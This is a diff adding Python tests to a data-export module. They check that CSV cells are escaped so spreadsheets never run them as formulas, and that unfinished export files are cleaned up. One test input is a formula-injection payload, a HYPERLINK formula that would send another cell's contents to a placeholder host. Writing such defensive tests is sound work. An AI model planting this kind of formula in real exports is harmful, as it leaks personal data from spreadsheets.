@@ -309,3 +309,18 @@ async def test_audit_record(world: World) -> None:
         assert entry is not None and entry.actor_id == CREATOR
         assert entry.details["status"] == "vaccinated" and entry.details["rows"] == 2
         assert entry.details["format"] == "xlsx"
+
+
+def test_csv_cells_never_run_as_formulas() -> None:
+    assert cx._csv_value('=HYPERLINK("http://x/?"&C2)') == '\'=HYPERLINK("http://x/?"&C2)'
+    assert cx._csv_value("-плохо") == "'-плохо"
+    assert cx._csv_value("+79131234567") == "+79131234567"  # a phone stays a phone
+    assert cx._csv_value("Петрова") == "Петрова"
+
+
+def test_cleanup_removes_unfinished_files(tmp_path: Path) -> None:
+    directory = tmp_path / "export"
+    directory.mkdir()
+    (directory / "half-written.csv").write_text("Петрова;+79131234567", encoding="utf-8")
+    cx.Result(directory=directory).cleanup()  # the file never made it into ``files``
+    assert not directory.exists()
